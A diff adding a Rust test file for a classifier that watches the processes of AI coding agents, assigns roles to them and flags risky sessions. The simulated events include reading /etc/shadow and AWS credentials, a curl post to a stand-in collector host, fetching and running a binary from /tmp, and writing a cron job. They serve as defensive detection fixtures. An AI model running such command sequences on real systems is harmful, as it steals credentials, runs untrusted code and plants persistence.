@@ -1,0 +1,241 @@
+//! What the stage says of sessions, and what it must not forget or repeat.
+
+use std::sync::Arc;
+
+use capsule_core::{
+    ActionPhase, Argv, Effect, EffectKind, Endpoint, EnrichedEvent, EventKind, ExecInfo, ExitStatus, Finding, Label,
+    Pid, ProcId, ProcessEvent, Role, Seq, Severity, SpawnKind, Stage as _, Timestamp, TrackedEvent, Workflow,
+};
+
+use super::Classifier;
+use crate::rules::Rules;
+
+struct Play {
+    classifier: Classifier,
+    parents: Vec<Option<u32>>,
+    seq: u64,
+    out: Vec<Finding>,
+}
+
+impl Play {
+    fn new() -> Self {
+        Self { classifier: Classifier::new(Rules::builtin()), parents: vec![None], seq: 0, out: Vec::new() }
+    }
+
+    fn event(&mut self, proc: u32, kind: EventKind) {
+        self.seq += 1;
+        let mut lineage = Vec::new();
+        let mut at = self.parents.get(proc as usize).copied().flatten();
+        while let Some(parent) = at {
+            lineage.insert(0, ProcId(parent));
+            at = self.parents.get(parent as usize).copied().flatten();
+        }
+        let event = ProcessEvent {
+            seq: Seq(self.seq),
+            raw: Seq(self.seq),
+            timestamp: Timestamp(self.seq * 1000),
+            pid: Pid(100 + proc),
+            ppid: None,
+            kind,
+        };
+        let tracked = TrackedEvent {
+            enriched: EnrichedEvent { event, context: None },
+            proc: Some(ProcId(proc)),
+            parent: self.parents.get(proc as usize).copied().flatten().map(ProcId),
+            depth: u32::try_from(lineage.len()).unwrap(),
+            lineage: Arc::from(lineage),
+            anomaly: None,
+        };
+        let mut out = Vec::new();
+        self.classifier.feed(&tracked, &mut out);
+        self.out.extend(out);
+    }
+
+    fn start(&mut self, parent: Option<u32>, argv: &[&str]) -> u32 {
+        let proc = u32::try_from(self.parents.len()).unwrap();
+        self.parents.push(parent);
+        let how = if parent.is_none() { SpawnKind::Root } else { SpawnKind::Fork };
+        self.event(proc, EventKind::Spawn(how));
+        if !argv.is_empty() {
+            self.exec(proc, argv);
+        }
+        proc
+    }
+
+    fn exec(&mut self, proc: u32, argv: &[&str]) {
+        let info = ExecInfo {
+            filename: None,
+            argv: Argv::from_iter(argv),
+            exe: None,
+            cwd: Some("/home/dev/project".into()),
+            from_tid: None,
+            snapshot: None,
+        };
+        self.event(proc, EventKind::Exec(Arc::new(info)));
+    }
+
+    fn end(&mut self, proc: u32, code: i32) {
+        self.event(proc, EventKind::Exit { status: ExitStatus::Exited(code), rusage: None });
+    }
+
+    fn effect(&mut self, proc: u32, kind: EffectKind, path: Option<&str>, host: Option<(&str, u16)>) {
+        let endpoint =
+            host.map(|(host, port)| Endpoint { protocol: "tcp".to_owned(), host: host.into(), port: Some(port) });
+        let effect = Effect {
+            kind,
+            call: "openat".to_owned(),
+            path: path.map(Into::into),
+            to: None,
+            endpoint,
+            detail: None,
+            errno: None,
+        };
+        self.event(proc, EventKind::Effect(Arc::new(effect)));
+    }
+
+    fn last(&self, proc: u32) -> &capsule_core::ActionEvent {
+        self.out
+            .iter()
+            .rev()
+            .find_map(|finding| match finding {
+                Finding::Action(action) if action.proc == ProcId(proc) => Some(action.as_ref()),
+                _ => None,
+            })
+            .unwrap()
+    }
+
+    fn risks(&self) -> Vec<(u32, &str, Severity)> {
+        self.out
+            .iter()
+            .filter_map(|finding| match finding {
+                Finding::Risk(risk) => Some((risk.proc.0, risk.rule.as_str(), risk.severity)),
+                Finding::Action(_) => None,
+            })
+            .collect()
+    }
+}
+
+#[test]
+fn roles_tell_the_agents_own_work_from_what_was_asked() {
+    let mut play = Play::new();
+    let agent = play.start(None, &["claude", "-p", "fix it"]);
+    let probe = play.start(Some(agent), &["git", "-c", "a=b", "-c", "c=d", "-c", "e=f", "rev-parse", "--git-dir"]);
+    let shell = play.start(
+        Some(agent),
+        &[
+            "/bin/bash",
+            "-c",
+            "source /h/.claude/shell-snapshots/s.sh && eval 'npm test' < /dev/null && pwd -P >| /tmp/claude-1-cwd",
+        ],
+    );
+    let asked = play.start(Some(shell), &["npm", "test"]);
+    let inner = play.start(Some(asked), &["node", "jest.js"]);
+    let known = play.start(Some(agent), &["sh", "-c", "command -v code"]);
+    assert_eq!(play.last(agent).role, Role::Agent);
+    assert_eq!(play.last(probe).role, Role::Helper);
+    assert_eq!(play.last(shell).role, Role::Wrapper);
+    assert_eq!(play.last(shell).summary.to_string(), "npm test");
+    assert_eq!(play.last(asked).role, Role::Asked);
+    assert_eq!(play.last(inner).role, Role::Inner);
+    assert_eq!(play.last(known).role, Role::Helper);
+}
+
+#[test]
+fn what_a_subshell_of_a_wrapper_runs_is_asked_and_what_a_subshell_of_a_program_runs_is_not() {
+    let mut play = Play::new();
+    let agent = play.start(None, &["gemini", "-p", "x"]);
+    let shell = play.start(Some(agent), &["/usr/bin/bash", "-c", "(\nnpm test | tail\n)"]);
+    let subshell = play.start(Some(shell), &[]);
+    let deeper = play.start(Some(subshell), &[]);
+    let asked = play.start(Some(deeper), &["npm", "test"]);
+    let fork = play.start(Some(asked), &[]);
+    let inner = play.start(Some(fork), &["node", "jest.js"]);
+    assert_eq!(play.last(asked).role, Role::Asked);
+    assert_eq!(play.last(inner).role, Role::Inner);
+}
+
+#[test]
+fn a_shell_that_becomes_its_command_stays_asked() {
+    let mut play = Play::new();
+    let agent = play.start(None, &["codex", "exec", "x"]);
+    let shell = play.start(Some(agent), &["/bin/bash", "-c", "cat a.txt"]);
+    play.exec(shell, &["cat", "a.txt"]);
+    assert_eq!((play.last(shell).role, play.last(shell).workflow), (Role::Asked, Some(Workflow::FileAnalysis)));
+}
+
+#[test]
+fn a_root_shell_that_becomes_its_last_command_is_no_agent() {
+    let mut play = Play::new();
+    let root = play.start(None, &["bash", "-c", "ls; tar cf x ."]);
+    play.exec(root, &["tar", "cf", "x", "."]);
+    assert_eq!(play.last(root).label, Label::Tool);
+}
+
+#[test]
+fn one_deed_is_one_finding_however_many_wrappers_it_has() {
+    let mut play = Play::new();
+    let root = play.start(None, &["bash", "-c", "sudo timeout 5 cat /etc/shadow"]);
+    let sudo = play.start(Some(root), &["sudo", "timeout", "5", "cat", "/etc/shadow"]);
+    let timeout = play.start(Some(sudo), &["timeout", "5", "cat", "/etc/shadow"]);
+    play.start(Some(timeout), &["cat", "/etc/shadow"]);
+    let found = play.risks().iter().filter(|(_, rule, _)| *rule == "credential.shadow").count();
+    assert_eq!(found, 1, "{:?}", play.risks());
+}
+
+#[test]
+fn what_was_downloaded_by_one_process_and_run_by_another_is_found() {
+    let mut play = Play::new();
+    let agent = play.start(None, &["python", "agent.py"]);
+    let fetch = play.start(Some(agent), &["curl", "-o", "/tmp/tool", "https://files.example.org/tool"]);
+    play.end(fetch, 0);
+    let chmod = play.start(Some(agent), &["chmod", "+x", "/tmp/tool"]);
+    play.end(chmod, 0);
+    let run = play.start(Some(agent), &["/tmp/tool"]);
+    assert!(play.risks().contains(&(run, "session.download-run", Severity::High)), "{:?}", play.risks());
+}
+
+#[test]
+fn credentials_read_and_something_sent_later_is_found() {
+    let mut play = Play::new();
+    let agent = play.start(None, &["python", "agent.py"]);
+    let read = play.start(Some(agent), &["cat", "/home/dev/.aws/credentials"]);
+    play.end(read, 0);
+    let send = play.start(Some(agent), &["curl", "-d", "x=1", "https://collector.example.org/in"]);
+    assert!(play.risks().contains(&(send, "session.credential-then-send", Severity::High)), "{:?}", play.risks());
+}
+
+#[test]
+fn effects_are_evidence() {
+    let mut play = Play::new();
+    let agent = play.start(None, &["claude"]);
+    let tool = play.start(Some(agent), &["python3", "setup_tool.py"]);
+    play.effect(tool, EffectKind::FileWrite, Some("/etc/cron.d/job"), None);
+    play.end(tool, 0);
+    assert!(
+        play.risks().iter().any(|(proc, rule, _)| *proc == tool && *rule == "persistence.cron"),
+        "{:?}",
+        play.risks()
+    );
+    let custom = play.start(Some(agent), &["python3", "own_agent.py"]);
+    play.effect(custom, EffectKind::NetConnect, None, Some(("api.anthropic.com", 443)));
+    play.end(custom, 0);
+    assert_eq!(play.last(custom).label, Label::Agent);
+}
+
+#[test]
+fn every_process_gets_a_final_action_and_nothing_is_kept_of_the_dead() {
+    let mut play = Play::new();
+    let root = play.start(None, &["bash"]);
+    let fork = play.start(Some(root), &[]);
+    let grep = play.start(Some(fork), &["grep", "x", "y"]);
+    play.end(grep, 1);
+    play.end(fork, 0);
+    assert_eq!(play.last(grep).success, Some(true));
+    assert_eq!(play.last(fork).phase, ActionPhase::Final);
+    assert_eq!(play.classifier.live(), 1);
+    let mut out = Vec::new();
+    play.classifier.finish(&mut out);
+    play.out.extend(out);
+    assert_eq!(play.last(root).phase, ActionPhase::Final);
+    assert_eq!(play.classifier.live(), 0);
+}
